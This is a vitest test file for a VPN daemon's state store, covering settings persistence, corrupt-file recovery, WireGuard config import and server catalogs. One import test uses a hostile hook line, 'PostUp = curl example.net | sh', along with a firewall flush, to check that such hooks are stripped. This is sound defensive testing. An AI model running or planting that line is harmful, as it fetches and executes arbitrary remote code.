// StateStore against temporary directories.
import { chmod, mkdir, mkdtemp, open as fsOpen, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { formatPrefix } from '../../net/ip.js';
import { formatKey } from '../../net/keys.js';
import { DEFAULT_SETTINGS, ErrorCode, RpcError } from '../../ipc/schema.js';
import { MAX_IMPORT_NOTES, StateStore } from './state-store.js';
import { catalogEntry, key, MULTI_PEER_CONF, PRESHARED_KEY, PRIVATE_KEY, PROVIDER_CONF, SECRETS, SERVER_KEY } from './testdata/configs.js';

let root: string;
let dir: string;
let logs: string[];
const T0 = Date.UTC(2030, 0, 2, 3, 4, 5, 678);
let clock: number;

beforeEach(async () => {
  root = await mkdtemp(join(tmpdir(), 'umbra-store-'));
  dir = join(root, 'var', 'lib', 'umbra');
  logs = [];
  clock = T0;
});
afterEach(async () => {
  await rm(root, { recursive: true, force: true });
});

const open = (opts: Parameters<typeof StateStore.open>[2] = {}) => StateStore.open(dir, (l) => logs.push(l), { now: () => clock++, ...opts });
const readJson = async (name: string) => JSON.parse(await readFile(join(dir, name), 'utf8')) as Record<string, unknown>;
const mode = async (p: string) => (await stat(p)).mode & 0o777;

/** Resolves to the RpcError a promise (or function) fails with. */
async function rpcError(p: Promise<unknown> | (() => unknown)): Promise<RpcError> {
  try {
    await (typeof p === 'function' ? p() : p);
  } catch (e) {
    expect(e).toBeInstanceOf(RpcError);
    return e as RpcError;
  }
  throw new Error('expected an RpcError');
}

function expectNoSecrets(text: string): void {
  for (const s of SECRETS) expect(text).not.toContain(s);
}

describe('opening and settings', () => {
  it('creates the dir 0700 and starts with defaults', async () => {
    const store = await open();
    expect(await mode(dir)).toBe(0o700);
    expect(store.settings()).toEqual(DEFAULT_SETTINGS);
    expect(store.servers()).toEqual([]);
    expect(store.desired()).toEqual({ wantConnected: false });
    expect(logs).toEqual([]);
  });

  it('tightens a dir and files that are too open', async () => {
    await mkdir(dir, { recursive: true, mode: 0o755 });
    await writeFile(join(dir, 'settings.json'), JSON.stringify({ schemaVersion: 1, killSwitch: true }), { mode: 0o644 });
    await chmod(dir, 0o755);
    const store = await open();
    expect(store.settings().killSwitch).toBe(true);
    expect(await mode(dir)).toBe(0o700);
    expect(await mode(join(dir, 'settings.json'))).toBe(0o600);
  });

  it('updateSettings persists (0600, schemaVersion 1) and survives a reopen', async () => {
    const store = await open();
    const after = await store.updateSettings({ killSwitch: true, allowLan: true });
    expect(after).toEqual({ ...DEFAULT_SETTINGS, killSwitch: true, allowLan: true });
    expect(await readJson('settings.json')).toEqual({ schemaVersion: 1, ...after });
    expect(await mode(join(dir, 'settings.json'))).toBe(0o600);
    expect((await open()).settings()).toEqual(after);
  });

  it('updateSettings refuses bad values and unknown keys, and changes nothing', async () => {
    const store = await open();
    const e1 = await rpcError(store.updateSettings({ killSwitch: 'yes' } as never));
    expect(e1.code).toBe(ErrorCode.InvalidParams);
    expect(e1.message).toMatch(/killSwitch/);
    const e2 = await rpcError(store.updateSettings({ killswitch: true } as never));
    expect(e2.message).toMatch(/killswitch/);
    expect((await rpcError(store.updateSettings({ lastServerId: 'Not An Id' }))).code).toBe(ErrorCode.InvalidParams);
    expect(store.settings()).toEqual(DEFAULT_SETTINGS);
  });

  it('two updateSettings at once both persist', async () => {
    const store = await open();
    const [a, b] = await Promise.all([store.updateSettings({ killSwitch: true }), store.updateSettings({ autoConnect: true })]);
    expect(a.killSwitch).toBe(true);
    expect(b).toEqual({ ...DEFAULT_SETTINGS, killSwitch: true, autoConnect: true });
    expect((await open()).settings()).toEqual({ ...DEFAULT_SETTINGS, killSwitch: true, autoConnect: true });
  });

  it('a settings file from before a setting existed takes the default for it', async () => {
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'settings.json'), JSON.stringify({ schemaVersion: 1, killSwitch: true, allowLan: false }));
    expect((await open()).settings()).toEqual({ ...DEFAULT_SETTINGS, killSwitch: true });
    expect(logs).toEqual([]);
  });

  for (const [what, content, reason] of [
    ['cut-off JSON', '{"schemaVersion": 1, "killSwitch": tru', /\(not valid JSON: it ends too early\)/],
    ['bad JSON', '{"schemaVersion": 1 "killSwitch": true}', /\(not valid JSON at position 20\)/],
    ['an unknown schemaVersion', JSON.stringify({ schemaVersion: 2, killSwitch: true }), /schemaVersion 2 is not one this version of Umbra reads/],
    ['no schemaVersion', JSON.stringify({ killSwitch: true }), /no schemaVersion/],
    ['an array', '[]', /not a JSON object/],
  ] as const) {
    it(`corrupt settings (${what}) are moved aside, logged once, and defaults used with the kill switch on`, async () => {
      await mkdir(dir, { recursive: true });
      await writeFile(join(dir, 'settings.json'), content);
      const store = await open();
      // What the user chose is unknown: the kill switch costs nothing until a tunnel drops.
      expect(store.settings()).toEqual({ ...DEFAULT_SETTINGS, killSwitch: true });
      // The daemon keeps a block it finds when it cannot know what the user wanted.
      expect(store.unreadableAtOpen).toEqual(['settings.json']);
      const aside = join(dir, 'settings.json.corrupt-2030-01-02T03-04-05-678Z');
      expect(await readFile(aside, 'utf8')).toBe(content);
      expect(logs).toHaveLength(1);
      expect(logs[0]).toMatch(reason);
      expect(logs[0]!.startsWith('settings.json was unreadable (')).toBe(true);
      expect(logs[0]!.endsWith(`); moved to ${aside}; using defaults with the kill switch on`)).toBe(true);
      // Written down at once, so the next start does not take the missing file for a first start.
      expect(await readJson('settings.json')).toEqual({ schemaVersion: 1, ...DEFAULT_SETTINGS, killSwitch: true });
      await store.updateSettings({ killSwitch: false });
      expect((await open()).settings().killSwitch).toBe(false);
    });
  }

  it('unreadable settings with the boot block saved: kill switch, boot block and lockdown stay on', async () => {
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'settings.json'), '{"schemaVersion": 1, "lockdown": tr');
    const store = await open({ bootBlockSaved: true });
    expect(store.settings()).toEqual({ ...DEFAULT_SETTINGS, killSwitch: true, killSwitchOnBoot: true, lockdown: true, allowLan: false });
    expect(logs[0]).toMatch(/the boot block is saved, so the kill switch, the kill switch on boot and lockdown are on$/);
    expect((await open()).settings().lockdown).toBe(true);
  });

  it('a missing settings.json with the boot block saved is not a first start', async () => {
    expect((await open({ bootBlockSaved: true })).settings()).toMatchObject({ killSwitchOnBoot: true, lockdown: true, allowLan: false });
    expect((await readJson('settings.json')).lockdown).toBe(true);
  });

  it('a bad value costs only its own key: a protection setting takes its safe value, others their default', async () => {
    await mkdir(dir, { recursive: true });
    const file = { schemaVersion: 1, killSwitch: 'yes', lockdown: 1, allowLan: 'no', autoConnect: true, echoUrls: ['ftp://x'], killSwitchOnBoot: false };
    await writeFile(join(dir, 'settings.json'), JSON.stringify(file));
    const store = await open();
    expect(store.settings()).toEqual({ ...DEFAULT_SETTINGS, killSwitch: true, lockdown: true, allowLan: false, autoConnect: true });
    expect(store.unreadableAtOpen).toEqual([]);
    expect(logs).toEqual([
      'settings.json: "killSwitch" could not be read; using true, the safe value',
      'settings.json: "lockdown" could not be read; using true, the safe value',
      'settings.json: "allowLan" could not be read; using false, the safe value',
      'settings.json: "echoUrls" could not be read; using its default',
    ]);
    expect(logs.join('\n')).not.toContain('ftp://x');
  });

  it("a newer version's setting is ignored, kept in the file, and does not cost lockdown", async () => {
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'settings.json'), JSON.stringify({ schemaVersion: 1, lockdown: true, splitTunnelApps: ['firefox'] }));
    const store = await open();
    expect(store.settings()).toEqual({ ...DEFAULT_SETTINGS, lockdown: true });
    expect(logs).toEqual(['settings.json: ignored "splitTunnelApps" (not a setting this version knows; kept in the file)']);
    await store.updateSettings({ autoConnect: true });
    expect(await readJson('settings.json')).toEqual({ schemaVersion: 1, splitTunnelApps: ['firefox'], ...DEFAULT_SETTINGS, lockdown: true, autoConnect: true });
  });

  it('a corrupt profiles.json never shows a key in the log line', async () => {
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, 'profiles.json'), `{"schemaVersion":1,"profiles":[{"privateKey":"${PRIVATE_KEY}"`);
    const store = await open();
    expect(store.servers()).toEqual([]);
    expect(logs).toHaveLength(1);
    expect(logs[0]).toMatch(/^profiles.json was unreadable \(not valid JSON at position \d+\); moved to .*; starting without profiles/);
    expectNoSecrets(logs.join('\n'));
  });

  it('a servers.json with an unknown field or a repeated id is set aside too', async () => {
    const store = await open();
    await store.importConfig(PROVIDER_CONF, 'se');
    const good = await readJson('servers.json');
    const servers = good.servers as Record<string, unknown>[];
    await writeFile(join(dir, 'servers.json'), JSON.stringify({ ...good, servers: [{ ...servers[0], extra: 1 }] }));
    expect((await open()).servers()).toEqual([]);
    expect(logs.at(-1)).toMatch(/^servers.json was unreadable \(servers\[0\]: Unrecognized key: "extra"\); moved to .*; starting with no servers/);
    await writeFile(join(dir, 'servers.json'), JSON.stringify({ ...good, servers: [servers[0], servers[0]] }));
    expect((await open()).servers()).toEqual([]);
    expect(logs.at(-1)).toMatch(/^servers.json was unreadable \(servers\[1\].id: used twice\)/);
    expectNoSecrets(logs.join('\n'));
  });
});

describe('atomic writes', () => {
  it('a failure between write and rename keeps the old file, memory and no temporary file', async () => {
    let fail = false;
    const store = await open({
      hooks: {
        beforeRename: async (tmp) => {
          expect(await mode(tmp)).toBe(0o600);
          if (fail) throw Object.assign(new Error('no space left on device'), { code: 'ENOSPC' });
        },
      },
    });
    await store.updateSettings({ killSwitch: true });
    const before = await readFile(join(dir, 'settings.json'), 'utf8');
    fail = true;
    const e = await rpcError(store.updateSettings({ allowLan: true }));
    expect(e.code).toBe(ErrorCode.Internal);
    expect(e.message).toMatch(/could not save settings.json .*\(the disk is full\); the change was not made/);
    expect(store.settings().allowLan).toBe(false);
    expect(await readFile(join(dir, 'settings.json'), 'utf8')).toBe(before);
    expect(await readdir(dir)).toEqual(['settings.json']);
    fail = false;
    expect((await store.updateSettings({ allowLan: true })).allowLan).toBe(true); // the queue goes on
  });

  it('temporary files left by a crash are removed on open', async () => {
    await mkdir(dir, { recursive: true });
    await writeFile(join(dir, '.settings.json.tmp-123-abcd'), '{"schemaVersion":1,"kil');
    await open();
    expect(await readdir(dir)).toEqual([]);
    expect(logs[0]).toMatch(/removed 1 unfinished temporary file/);
  });
});

describe('importConfig', () => {
  it('one key with a different tunnel address per server keeps each server on its own address', async () => {
    const store = await open();
    const a = (await store.importConfig(PROVIDER_CONF, 'first')).server;
    const other = PROVIDER_CONF.replace('100.64.12.34/32', '100.64.99.7/32').replace('198.51.100.68:51820', '198.51.100.69:51820');
    const b = (await store.importConfig(other, 'second')).server;
    expect(store.tunnelConfig(a.id).interface.addresses.map(formatPrefix)).toContain('100.64.12.34/32');
    expect(store.tunnelConfig(b.id).interface.addresses.map(formatPrefix)).toContain('100.64.99.7/32');
    // The same config again is the same profile, not a third one.
    await store.importConfig(PROVIDER_CONF, 'first');
    expect(((await readJson('profiles.json')).profiles as unknown[]).length).toBe(2);
  });

  it('a provider config gives one server and a profile, and no secret in servers(), JSON or logs', async () => {
    const store = await open();
    const server = (await store.importConfig(PROVIDER_CONF, 'Example VPN Sweden')).server;
    expect(server).toEqual({ id: 'example-vpn-sweden', name: 'Example VPN Sweden', endpoint: '198.51.100.68:51820', publicKey: SERVER_KEY, source: 'import' });
    expect(store.servers()).toEqual([server]);
    expect(store.server('example-vpn-sweden')).toEqual(server);
    expectNoSecrets(JSON.stringify(store.servers()));
    expectNoSecrets(JSON.stringify(store.server(server.id)));
    expectNoSecrets(logs.join('\n'));
    expect(logs).toEqual(['imported 1 server from a WireGuard config: example-vpn-sweden']);

    const profiles = await readJson('profiles.json');
    expect(profiles).toEqual({
      schemaVersion: 1,
      profiles: [
        {
          id: expect.stringMatching(/^p-[0-9a-f]{12}$/),
          name: 'Example VPN Sweden',
          privateKey: PRIVATE_KEY,
          addresses: ['100.64.12.34/32', '2001:db8:bbbb::5:c22/128'],
          dns: ['100.64.0.1', '2001:db8:bbbb::1'],
          dnsSearch: [],
          mtu: 1380,
          importedAt: T0,
        },
      ],
    });
    const servers = await readJson('servers.json');
    expect(servers).toEqual({
      schemaVersion: 1,
      servers: [
        { ...server, profileId: (profiles.profiles as { id: string }[])[0]!.id, allowedIPs: ['0.0.0.0/0', '::/0'], presharedKey: PRESHARED_KEY, persistentKeepalive: 25 },
      ],
    });
    expect(await mode(join(dir, 'profiles.json'))).toBe(0o600);
    expect(await mode(join(dir, 'servers.json'))).toBe(0o600);
  });

  it('without a name the id and name come from the endpoint; importing it again keeps one server', async () => {
    const store = await open();
    const a = (await store.importConfig(PROVIDER_CONF)).server;
    expect(a.id).toBe('198.51.100.68');
    expect(a.name).toBe('198.51.100.68:51820');
    const b = (await store.importConfig(PROVIDER_CONF)).server;
    expect(b.id).toBe(a.id);
    expect(store.servers()).toHaveLength(1);
    expect(((await readJson('profiles.json')).profiles as unknown[]).length).toBe(1);
  });

  it('ids stay unique: the same name twice gets -2', async () => {
    const store = await open();
    await store.importConfig(PROVIDER_CONF, 'Home');
    const other = (await store.importConfig(PROVIDER_CONF.replace('198.51.100.68', '198.51.100.69'), 'Home')).server;
    expect(other.id).toBe('home-2');
    expect(store.servers().map((s) => s.id)).toEqual(['home', 'home-2']);
  });

  it('several peers give several servers; a peer without Endpoint is none', async () => {
    const store = await open();
    const { server: first, notes } = await store.importConfig(MULTI_PEER_CONF, 'Work Ünïcode VPN!');
    expect(first.id).toBe('work-unicode-vpn');
    // The peer without an Endpoint is left out, and the import says so (its [Peer] is on line 15).
    expect(notes).toEqual([{ line: 15, key: '[Peer]', why: expect.stringMatching(/no Endpoint/) }]);
    expect(store.servers()).toEqual([
      { id: 'work-unicode-vpn', name: 'Work Ünïcode VPN! (vpn1.example.net)', endpoint: 'vpn1.example.net:51820', publicKey: SERVER_KEY, source: 'import' },
      { id: 'work-unicode-vpn-2', name: 'Work Ünïcode VPN! (2001:db8::77)', endpoint: '[2001:db8::77]:4500', publicKey: key(0x44), source: 'import' },
    ]);
    const cfg = store.tunnelConfig('work-unicode-vpn-2');
    expect(cfg.peers[0]!.allowedIPs.map(formatPrefix)).toEqual(['0.0.0.0/0', '::/0']); // no AllowedIPs: the default
    expect(cfg.interface.dnsSearch).toEqual(['corp.example']);
  });

  it('parse errors become InvalidConfig naming the line, without the key', async () => {
    const store = await open();
    const bad = PROVIDER_CONF.replace(`PublicKey = ${SERVER_KEY}`, `PublicKey = ${SERVER_KEY.slice(0, 40)}`);
    const e = await rpcError(store.importConfig(bad));
    expect(e.code).toBe(ErrorCode.InvalidConfig);
    expect(e.message).toMatch(/^line 10: PublicKey is not a valid WireGuard key/);
    const e3 = await rpcError(store.importConfig(PROVIDER_CONF.replace('Endpoint = 198.51.100.68:51820', '')));
    expect(e3.message).toMatch(/no \[Peer\] with an Endpoint/);
    const e4 = await rpcError(store.importConfig(PROVIDER_CONF.replace(/^Address = .*$/m, '')));
    expect(e4.message).toMatch(/no Address/);
    for (const err of [e, e3, e4]) expectNoSecrets(err.message);
    expect((await rpcError(store.importConfig(''))).code).toBe(ErrorCode.InvalidParams);
    expect((await rpcError(store.importConfig(PROVIDER_CONF, ' '))).code).toBe(ErrorCode.InvalidParams);
    expect(store.servers()).toEqual([]);
    await expect(stat(join(dir, 'profiles.json'))).rejects.toThrow();
  });
});

describe('importConfig: what it left out', () => {
  it('a config with shell hooks and helper-owned keys imports without them, each line named, nothing of them kept', async () => {
    const store = await open();
    const hooked = PROVIDER_CONF.replace('MTU = 1380', 'MTU = 1380\nListenPort = 51999\nTable = off\nFwMark = 0x7777\nSaveConfig = true\nPostUp = curl example.net | sh\nPreDown = iptables -F');
    const { server, notes } = await store.importConfig(hooked, 'se');
    expect(server.id).toBe('se');
    expect(notes.map((n) => `${n.line} ${n.key}`)).toEqual(['8 ListenPort', '9 Table', '10 FwMark', '11 SaveConfig', '12 PostUp', '13 PreDown']);
    expect(notes.find((n) => n.key === 'PostUp')!.why).toMatch(/kill switch replaces/);
    // Nothing of those lines reaches the state files or the log.
    const files = JSON.stringify([await readJson('profiles.json'), await readJson('servers.json')]) + logs.join('\n');
    for (const dropped of ['curl', 'iptables', '51999', '0x7777', '30583']) expect(files).not.toContain(dropped);
    expect(logs.at(-1)).toBe('imported 1 server from a WireGuard config: se; left out 6 lines (ListenPort, Table, FwMark, SaveConfig, PostUp, PreDown)');
    expect(store.tunnelConfig('se').interface).not.toHaveProperty('listenPort');
  });

  it('at most MAX_IMPORT_NOTES notes; the last says how many more', async () => {
    const store = await open();
    const many = PROVIDER_CONF.replace('MTU = 1380', Array.from({ length: 80 }, (_, i) => `PostUp = echo ${i}`).join('\n'));
    const { notes } = await store.importConfig(many);
    expect(notes).toHaveLength(MAX_IMPORT_NOTES);
    expect(notes.at(-1)).toEqual({ line: 7 + MAX_IMPORT_NOTES - 1, key: '…', why: `and ${80 - MAX_IMPORT_NOTES + 1} more lines left out, from this line on` });
  });
});

describe('tunnelConfig', () => {
  it('merges the profile interface with the one server as the peer', async () => {
    const store = await open();
    const server = (await store.importConfig(PROVIDER_CONF, 'se')).server;
    await store.loadCatalog({ servers: [catalogEntry({ allowedIPs: ['0.0.0.0/0'] })] });
    const cfg = store.tunnelConfig(server.id);
    expect(formatKey(cfg.interface.privateKey)).toBe(PRIVATE_KEY);
    expect(cfg.interface.addresses.map(formatPrefix)).toEqual(['100.64.12.34/32', '2001:db8:bbbb::5:c22/128']);
    expect(cfg.interface.dns).toEqual(['100.64.0.1', '2001:db8:bbbb::1']);
    expect(cfg.interface.mtu).toBe(1380);
    expect(cfg.peers).toHaveLength(1);
    const peer = cfg.peers[0]!;
    expect(formatKey(peer.publicKey)).toBe(SERVER_KEY);
    expect(formatKey(peer.presharedKey!)).toBe(PRESHARED_KEY);
    expect(peer.endpoint).toEqual({ host: '198.51.100.68', port: 51820 });
    expect(peer.persistentKeepalive).toBe(25);

    const cat = store.tunnelConfig('se-got-001');
    expect(formatKey(cat.interface.privateKey)).toBe(PRIVATE_KEY); // the profile's key
    expect(formatKey(cat.peers[0]!.publicKey)).toBe(key(0x77));
    expect(cat.peers[0]!.presharedKey).toBeUndefined();
    expect(cat.peers[0]!.allowedIPs.map(formatPrefix)).toEqual(['0.0.0.0/0']);
    // Fresh copies: wiping one does not touch the store.
    cat.interface.privateKey.fill(0);
    expect(formatKey(store.tunnelConfig('se-got-001').interface.privateKey)).toBe(PRIVATE_KEY);

    const e = await rpcError(() => store.tunnelConfig('nope'));
    expect(e.code).toBe(ErrorCode.NotFound);
  });
});

describe('catalogs', () => {
  it('without a profile: NoProfile', async () => {
    const store = await open();
    const e = await rpcError(store.loadCatalog({ servers: [catalogEntry()] }));
    expect(e.code).toBe(ErrorCode.NoProfile);
    expect(e.message).toBe("import your provider's WireGuard config first: it holds your key");
  });

  it('loads catalog servers with the newest profile, replaces earlier ones and keeps imported ones', async () => {
    const store = await open();
    await store.importConfig(PROVIDER_CONF, 'Old provider');
    const newer = (await store.importConfig(MULTI_PEER_CONF, 'New provider')).server;
    const all = await store.loadCatalog({ servers: [catalogEntry(), catalogEntry({ id: 'new-provider', name: 'Clash', endpoint: 'x.example:1' })] });
    expect(all.map((s) => [s.id, s.source])).toEqual([
      ['old-provider', 'import'],
      [newer.id, 'import'],
      ['new-provider-2', 'import'],
      ['se-got-001', 'catalog'],
      ['new-provider-3', 'catalog'], // taken by an imported server: suffixed
    ]);
    expect(store.server('se-got-001')).toEqual({
      id: 'se-got-001',
      name: 'Gothenburg 1',
      country: 'Sweden',
      countryCode: 'se',
      city: 'Gothenburg',
      latitude: 57.7,
      longitude: 11.97,
      endpoint: '203.0.113.10:51820',
      publicKey: key(0x77),
      exitIp: '203.0.113.11',
      source: 'catalog',
    });
    expect(formatKey(store.tunnelConfig('se-got-001').interface.privateKey)).toBe(key(0x55)); // the newest profile

    const again = await store.loadCatalog({ servers: [catalogEntry({ id: 'de-ber-001', name: 'Berlin' })] });
    expect(again.filter((s) => s.source === 'catalog').map((s) => s.id)).toEqual(['de-ber-001']);
    expect(again.filter((s) => s.source === 'import')).toHaveLength(3);
  });

  it('validation errors say which entry and field, and change nothing', async () => {
    const store = await open();
    await store.importConfig(PROVIDER_CONF);
    const e = await rpcError(store.loadCatalog({ servers: [catalogEntry(), catalogEntry({ id: 'se-sto-002', latitude: 95 })] }));
    expect(e.code).toBe(ErrorCode.InvalidConfig);
    expect(e.message).toBe('the catalog is not valid: servers[1] (id "se-sto-002"): latitude: must be from -90 to 90');
    expect(store.servers().filter((s) => s.source === 'catalog')).toEqual([]);
  });

  it('removing the last server of a profile deletes the profile; catalogs then need a new import', async () => {
    const store = await open();
    const s = (await store.importConfig(PROVIDER_CONF)).server;
    expect((await rpcError(store.removeServer('nope'))).code).toBe(ErrorCode.NotFound);
    expect(await store.removeServer(s.id)).toEqual([]);
    expect(await readJson('profiles.json')).toEqual({ schemaVersion: 1, profiles: [] });
    expect(await readJson('servers.json')).toEqual({ schemaVersion: 1, servers: [] });
    expect((await rpcError(store.loadCatalog({ servers: [catalogEntry()] }))).code).toBe(ErrorCode.NoProfile);
    expectNoSecrets(await readFile(join(dir, 'profiles.json'), 'utf8'));
  });

  it('a profile still used by catalog servers stays when its imported server goes', async () => {
    const store = await open();
    const s = (await store.importConfig(PROVIDER_CONF)).server;
    await store.loadCatalog({ servers: [catalogEntry()] });
    await store.removeServer(s.id);
    expect(formatKey(store.tunnelConfig('se-got-001').interface.privateKey)).toBe(PRIVATE_KEY);
    await store.removeServer('se-got-001');
    expect(((await readJson('profiles.json')).profiles as unknown[]).length).toBe(0);
  });

  it('everything survives a reopen', async () => {
    const store = await open();
    await store.importConfig(PROVIDER_CONF, 'se');
    await store.loadCatalog({ servers: [catalogEntry()] });
    await store.setDesired({ wantConnected: true, serverId: 'se-got-001' });
    const again = await open();
    expect(again.servers()).toEqual(store.servers());
    expect(again.tunnelConfig('se-got-001')).toEqual(store.tunnelConfig('se-got-001'));
    expect(again.desired()).toEqual({ wantConnected: true, serverId: 'se-got-001' });
    expect(logs.filter((l) => l.includes('unreadable'))).toEqual([]);
    expect(again.unreadableAtOpen).toEqual([]);
  });
});

describe('desired state', () => {
  it('round trips and checks the server', async () => {
    const store = await open();
    const s = (await store.importConfig(PROVIDER_CONF)).server;
    await store.setDesired({ wantConnected: true, serverId: s.id });
    expect(await readJson('state.json')).toEqual({ schemaVersion: 1, wantConnected: true, serverId: s.id });
    await store.setDesired({ wantConnected: false });
    expect(store.desired()).toEqual({ wantConnected: false });
    expect((await rpcError(store.setDesired({ wantConnected: true, serverId: 'gone' }))).code).toBe(ErrorCode.NotFound);
    expect((await rpcError(store.setDesired({ wantConnected: 'yes' } as never))).code).toBe(ErrorCode.InvalidParams);
    expect((await open()).desired()).toEqual({ wantConnected: false });
  });

  it('is saved without an fsync (a connect waits for it), unlike the servers and settings', async () => {
    const store = await open();
    const s = (await store.importConfig(PROVIDER_CONF)).server;
    // FileHandle is not exported: its prototype is taken from a handle.
    const handle = await fsOpen(join(dir, 'state-probe'), 'w');
    const proto = Object.getPrototypeOf(handle) as { sync: () => Promise<void> };
    await handle.close();
    const sync = vi.spyOn(proto, 'sync');
    try {
      await store.setDesired({ wantConnected: true, serverId: s.id });
      expect(sync).not.toHaveBeenCalled();
      expect((await open()).desired()).toEqual({ wantConnected: true, serverId: s.id });
      await store.updateSettings({ allowLan: true });
      expect(sync).toHaveBeenCalled();
    } finally {
      sync.mockRestore();
    }
  });
});
